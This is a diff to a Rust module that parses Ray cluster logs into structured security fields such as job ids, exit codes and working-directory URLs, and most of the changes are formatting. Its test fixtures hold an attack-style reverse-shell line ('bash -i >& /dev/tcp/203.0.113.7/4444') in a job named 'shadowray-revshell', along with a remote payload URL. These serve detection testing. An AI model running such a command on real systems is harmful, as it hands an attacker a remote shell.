@@ -10,12 +10,17 @@ use schema::{Value, f};
 use super::util::{get, set_command};
 use crate::steps::NamedStep;
 
-static START: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"Starting job with submission_id: (\S+)").unwrap());
-static EXITED: LazyLock<Regex> =
-    LazyLock::new(|| Regex::new(r"^Job (\S+) entrypoint command exited with code (-?\d+)").unwrap());
-static ACTOR: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"actor_name=_ray_internal_job_actor_(\S+)").unwrap());
-static RUNTIME_ENV: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#""working_dir": "([^"]+)""#).unwrap());
-static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"^Downloading package from (\S+) to ").unwrap());
+static START: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"Starting job with submission_id: (\S+)").unwrap());
+static EXITED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^Job (\S+) entrypoint command exited with code (-?\d+)").unwrap()
+});
+static ACTOR: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"actor_name=_ray_internal_job_actor_(\S+)").unwrap());
+static RUNTIME_ENV: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#""working_dir": "([^"]+)""#).unwrap());
+static DOWNLOAD: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^Downloading package from (\S+) to ").unwrap());
 /// "Started a ray job X." / "Completed a ray job X with a status FAILED. ..."
 /// -> (verb, job id, status).
 fn job_event(msg: &str) -> Option<(&str, &str, Option<&str>)> {
@@ -26,7 +31,9 @@ fn job_event(msg: &str) -> Option<(&str, &str, Option<&str>)> {
     let end = rest.find(|c: char| c.is_whitespace()).unwrap_or(rest.len());
     let id = rest[..end].trim_end_matches('.');
     let status = rest[end..].strip_prefix(" with a status ").map(|s| {
-        let e = s.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap_or(s.len());
+        let e = s
+            .find(|c: char| !c.is_ascii_alphanumeric() && c != '_')
+            .unwrap_or(s.len());
         &s[..e]
     });
     (!id.is_empty()).then_some((verb, id, status.filter(|s| !s.is_empty())))
@@ -37,7 +44,9 @@ pub static RAY_LOG: NamedStep = NamedStep {
     doc: "Ray component messages: job submission ids, entrypoint exit codes, runtime_env working_dir URLs",
     paths: &[],
     run: |ctx| {
-        let Some(msg) = get(&ctx.event, f::MESSAGE) else { return Ok(()) };
+        let Some(msg) = get(&ctx.event, f::MESSAGE) else {
+            return Ok(());
+        };
         let ev = &mut ctx.event;
         if let Some(c) = START.captures(&msg) {
             ev.set(f::MLOPS_JOB_ID, msg.slice_ref(&c[1]));
@@ -48,7 +57,10 @@ pub static RAY_LOG: NamedStep = NamedStep {
             ev.set(f::PROCESS_EXIT_CODE, code);
             ev.set(f::EVENT_ACTION, "job-entrypoint-exit");
             ev.set(f::EVENT_TYPE, schema::value::str_array(&["end"]));
-            ev.set(f::EVENT_OUTCOME, if code == 0 { "success" } else { "failure" });
+            ev.set(
+                f::EVENT_OUTCOME,
+                if code == 0 { "success" } else { "failure" },
+            );
         } else if let Some(c) = ACTOR.captures(&msg) {
             ev.set(f::MLOPS_JOB_ID, msg.slice_ref(&c[1]));
         }
@@ -84,7 +96,9 @@ pub static RAY_EVENT: NamedStep = NamedStep {
             let level = crate::steps::normalize_level(sev);
             ctx.event.set(f::LOG_LEVEL, level);
         }
-        let Some(msg) = get(&ctx.event, f::MESSAGE) else { return Ok(()) };
+        let Some(msg) = get(&ctx.event, f::MESSAGE) else {
+            return Ok(());
+        };
         if let Some((verb, id, status)) = job_event(&msg) {
             ctx.event.set_default(f::MLOPS_JOB_ID, msg.slice_ref(id));
             let (action, ty) = match verb {
@@ -97,12 +111,17 @@ pub static RAY_EVENT: NamedStep = NamedStep {
                 let status = msg.slice_ref(status);
                 ctx.event.set(
                     f::EVENT_OUTCOME,
-                    if &*status == "SUCCEEDED" { "success" } else { "failure" },
+                    if &*status == "SUCCEEDED" {
+                        "success"
+                    } else {
+                        "failure"
+                    },
                 );
                 ctx.event.set(f::MLOPS_JOB_STATUS, status);
             }
         } else {
-            ctx.event.set_default(f::EVENT_TYPE, schema::value::str_array(&["info"]));
+            ctx.event
+                .set_default(f::EVENT_TYPE, schema::value::str_array(&["info"]));
         }
         Ok(())
     },
@@ -114,12 +133,20 @@ mod tests {
 
     #[test]
     fn job_event_messages() {
-        assert_eq!(super::job_event("Started a ray job train-1."), Some(("Started", "train-1", None)));
         assert_eq!(
-            super::job_event("Completed a ray job x with a status FAILED. Job supervisor actor died: y"),
+            super::job_event("Started a ray job train-1."),
+            Some(("Started", "train-1", None))
+        );
+        assert_eq!(
+            super::job_event(
+                "Completed a ray job x with a status FAILED. Job supervisor actor died: y"
+            ),
             Some(("Completed", "x", Some("FAILED")))
         );
-        assert_eq!(super::job_event("Completed a ray job x with a status SUCCEEDED."), Some(("Completed", "x", Some("SUCCEEDED"))));
+        assert_eq!(
+            super::job_event("Completed a ray job x with a status SUCCEEDED."),
+            Some(("Completed", "x", Some("SUCCEEDED")))
+        );
         assert_eq!(super::job_event("Something about a ray job"), None);
     }
 
@@ -141,7 +168,10 @@ mod tests {
         assert_eq!(text(&e, "log.origin.file.name"), "job_manager.py");
         assert_eq!(text(&e, "log.origin.file.line"), "533");
         let e = parse("ray.log", r#"2026-11-30 00:40:15,278	INFO runtime_env_agent.py:543 -- Creating runtime env: {"env_vars": {}, "working_dir": "http://203.0.113.7/payload.zip"} with timeout 600 "#).unwrap();
-        assert_eq!(text(&e, "mlops.job.working_dir"), "http://203.0.113.7/payload.zip");
+        assert_eq!(
+            text(&e, "mlops.job.working_dir"),
+            "http://203.0.113.7/payload.zip"
+        );
         assert!(parse("ray.log", "2026-11-30 00:40:15,278 INFO x.py:1 -- no tab").is_err());
     }
 
@@ -151,17 +181,27 @@ mod tests {
         assert_eq!(text(&e, "process.pid"), "649");
         assert_eq!(text(&e, "log.level"), "info");
         assert!(e.get("process.name").is_none());
-        let e = parse("ray.core", "[2026-11-30 00:39:16,576 W 302 302] (raylet) main.cc:283: x").unwrap();
+        let e = parse(
+            "ray.core",
+            "[2026-11-30 00:39:16,576 W 302 302] (raylet) main.cc:283: x",
+        )
+        .unwrap();
         assert_eq!(text(&e, "process.name"), "raylet");
         assert_eq!(text(&e, "log.level"), "warning");
         let e = parse("ray.job_driver", "Running entrypoint for job shadowray-revshell: echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'").unwrap();
-        assert_eq!(text(&e, "mlops.job.entrypoint"), "echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'");
+        assert_eq!(
+            text(&e, "mlops.job.entrypoint"),
+            "echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"
+        );
         assert_eq!(text(&e, "process.name"), "echo");
         let e = parse("ray.event", r#"{"event_id": "88FB", "source_type": "JOBS", "source_hostname": "vm", "source_pid": 326, "message": "Completed a ray job train-resnet-0001 with a status FAILED.", "timestamp": "1795999177", "custom_fields": {"submission_id": "train-resnet-0001"}, "severity": "INFO", "label": ""}"#).unwrap();
         assert_eq!(text(&e, "mlops.job.status"), "FAILED");
         assert_eq!(text(&e, "event.outcome"), "failure");
         assert_eq!(text(&e, "@timestamp"), "2026-11-30T00:39:37Z");
         assert_eq!(text(&e, "ray.event.source_type"), "JOBS");
-        assert!(parse("ray.event", r#"{"event_id": "x", "source_type": "JOBS""#).is_err(), "truncated JSON");
+        assert!(
+            parse("ray.event", r#"{"event_id": "x", "source_type": "JOBS""#).is_err(),
+            "truncated JSON"
+        );
     }
 }
